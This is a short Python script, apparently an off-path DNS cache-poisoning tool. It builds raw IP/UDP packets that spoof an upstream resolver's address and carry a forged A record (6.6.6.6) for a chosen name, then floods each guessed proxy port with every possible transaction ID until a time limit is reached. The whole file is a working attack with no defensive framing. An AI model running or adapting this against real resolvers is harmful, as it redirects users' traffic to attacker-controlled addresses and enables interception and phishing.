#!/usr/bin/python3
"""Off-path forger: answers for NAME (A 6.6.6.6) with every id, from the
upstream's address and port, to each guessed port of the proxy, over and
over until SECONDS have passed. Raw IPv4 with UDP checksum 0.

forge_answers.py SRC_ADDR SRC_PORT DST_ADDR NAME SECONDS PORT...
"""
import socket
import struct
import sys
import time


def main():
    src, sport, dst, name, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5])
    ports = [int(p) for p in sys.argv[6:]]
    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split(".")) + b"\0"
    dns = (struct.pack("!HHHHHH", 0, 0x8180, 1, 1, 0, 0) + qname + struct.pack("!HH", 1, 1) +
           b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + bytes([6, 6, 6, 6]))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packets = {}
    for port in ports:
        udp = struct.pack("!HHHH", sport, port, 8 + len(dns), 0)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(dns), 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
        packets[port] = bytearray(ip + udp + dns)
    id_at = 28
    sent = passes = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for port, pkt in packets.items():
            for qid in range(65536):
                struct.pack_into("!H", pkt, id_at, qid)
                try:
                    s.sendto(pkt, (dst, 0))
                    sent += 1
                except OSError:
                    time.sleep(0.001)
        passes += 1
    print("sent %d forged answers, %d passes over %d ports" % (sent, passes, len(ports)))


if __name__ == "__main__":
    main()
